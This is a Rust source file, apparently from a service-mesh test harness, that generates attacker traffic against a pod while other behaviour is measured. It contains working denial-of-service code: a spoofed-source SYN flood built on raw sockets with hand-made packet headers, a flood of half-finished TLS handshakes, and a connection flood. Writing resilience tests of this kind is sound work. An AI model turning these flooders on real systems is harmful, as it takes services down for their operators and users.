//! Floods: what an attacker does to one pod, over and over, while something else is tested or measured.

use std::{
    collections::VecDeque,
    io::Write as _,
    net::{Ipv4Addr, SocketAddr, SocketAddrV4},
    sync::atomic::{AtomicBool, AtomicU64, Ordering::SeqCst},
    thread,
    time::{Duration, Instant},
};

use anyhow::{Result, anyhow, ensure};
use socket2::{Domain, Protocol, Type};

use crate::{LIMIT, app::round_trip, host::Host, pause::SocketSpec, wait_until};

/// Handshakes that the attacker leaves open.
const BEGUN: usize = 500;

/// One blow after the other.
pub struct Flood<'a> {
    blow: Box<dyn FnMut(u64) -> Result<()> + Send + 'a>,
    pause: Duration,
}

impl<'a> Flood<'a> {
    /// Any attack; the blow is told how many there were before it.
    pub fn new(blow: impl FnMut(u64) -> Result<()> + Send + 'a) -> Self {
        Self {
            blow: Box::new(blow),
            pause: Duration::ZERO,
        }
    }

    /// SYNs to each of `to` in turn, from addresses that nobody has: nobody says that it wants no connection.
    pub fn syns(from: &'a Host, to: &'a [SocketAddrV4]) -> Result<Self> {
        let raw = SocketSpec::new(Domain::IPV4, Type::RAW, Some(Protocol::from(libc::IPPROTO_RAW)));
        let socket = from.socket(raw)?;
        let [a, b, c, _] = from.v4().octets();
        Ok(Self::new(move |nth| {
            let nth = nth as u32;
            let source = Ipv4Addr::new(a, b, c, 128 | (nth & 0x7f) as u8);
            let source = SocketAddrV4::new(source, 1024 + (nth >> 7 & 0x7fff) as u16);
            let to = to[nth as usize % to.len()];
            // A full queue drops it, as a network would.
            let _ = socket.send_to(&syn(source, to, nth), &SocketAddr::from(to).into());
            Ok(())
        }))
    }

    /// TLS handshakes that the client begins and never ends. The server does its part of each.
    pub fn handshakes(from: &'a Host, to: SocketAddr) -> Self {
        let (hello, mut begun) = (client_hello(), VecDeque::new());
        Self::new(move |_| {
            // Some are refused, which is what they should be.
            if let Ok(mut tcp) = from.connect(to) {
                let _ = tcp.write_all(&hello);
                begun.push_back(tcp);
            }
            if begun.len() > BEGUN {
                begun.pop_front();
            }
            Ok(())
        })
    }

    /// Short connections to a server that echoes; between pods of the mesh each is a stream.
    pub fn connections(from: &'a Host, to: SocketAddr) -> Self {
        Self::new(move |_| Ok(round_trip(&mut from.connect(to)?, b"one of many")?))
    }

    /// No more than so many blows a second, so that the attacker's own work does not become what is measured.
    pub fn per_second(self, blows: u32) -> Self {
        let pause = Duration::from_secs(1) / blows;
        Self { pause, ..self }
    }

    /// Does `work` once `enough` blows have been struck, while the flood goes on.
    pub fn during<T>(mut self, enough: u64, work: impl FnOnce() -> Result<T>) -> Result<T> {
        let (count, ends) = (AtomicU64::new(0), AtomicBool::new(false));
        thread::scope(|scope| {
            let attacking = scope.spawn(|| -> Result<()> {
                let mut next = Instant::now();
                while !ends.load(SeqCst) {
                    (self.blow)(count.fetch_add(1, SeqCst))?;
                    next = (next + self.pause).max(Instant::now());
                    thread::sleep(next.saturating_duration_since(Instant::now()));
                }
                Ok(())
            });
            let under_way = wait_until("the flood", LIMIT * 3, || {
                count.load(SeqCst) >= enough || attacking.is_finished()
            });
            let worked = under_way.and_then(|()| work());
            ends.store(true, SeqCst);
            attacking.join().map_err(|_| anyhow!("the attack panicked"))??;
            ensure!(count.load(SeqCst) >= enough, "there was no flood");
            worked
        })
    }
}

/// A SYN, with the IPv4 header in front of it (RFC 791, RFC 9293).
fn syn(from: SocketAddrV4, to: SocketAddrV4, sequence: u32) -> Vec<u8> {
    let mut tcp = [from.port().to_be_bytes(), to.port().to_be_bytes()].concat();
    tcp.extend(sequence.to_be_bytes());
    tcp.extend([0, 0, 0, 0, 0x50, 0x02, 0xff, 0xff, 0, 0, 0, 0]);
    let ends = [from.ip().octets(), to.ip().octets()].concat();
    let pseudo = [&ends[..], &[0, 6, 0, 20], &tcp].concat();
    tcp.splice(16..18, checksum(&pseudo).to_be_bytes());
    // The kernel fills in the length, the identification and the checksum (raw(7)).
    let head = [0x45, 0, 0, 40, 0, 0, 0, 0, 64, 6, 0, 0];
    [&head[..], &ends, &tcp].concat()
}

/// RFC 1071.
fn checksum(bytes: &[u8]) -> u16 {
    let words = bytes.chunks(2).map(|pair| match pair {
        [high, low] => u32::from(u16::from_be_bytes([*high, *low])),
        other => u32::from(other[0]) << 8,
    });
    let mut sum: u32 = words.sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// A ClientHello of TLS 1.3 that every server of ours answers with its certificate (RFC 8446 4.1.2).
fn client_hello() -> Vec<u8> {
    let sized = |bytes: &[u8]| {
        let length = u16::try_from(bytes.len()).unwrap_or_default().to_be_bytes();
        [&length[..], bytes].concat()
    };
    let extension = |kind: u16, body: &[u8]| [&kind.to_be_bytes()[..], &sized(body)].concat();
    // X25519 with the base point as the client's share.
    let share = [&[0, 29][..], &sized(&[&[9][..], &[0; 31]].concat())].concat();
    let extensions = [
        extension(10, &sized(&[0, 29])),
        extension(13, &sized(&[4, 3, 8, 4, 8, 5])),
        extension(16, &sized(b"\x02h2")),
        extension(43, &[2, 3, 4]),
        extension(51, &sized(&share)),
    ];
    let suites = sized(&[0x13, 1, 0x13, 2]);
    let hello = [
        &[3, 3][..],
        &[7; 32],
        &[0],
        &suites,
        &[1, 0],
        &sized(&extensions.concat()),
    ]
    .concat();
    let handshake = [&[1, 0][..], &sized(&hello)].concat();
    [&[0x16, 3, 1][..], &sized(&handshake)].concat()
}
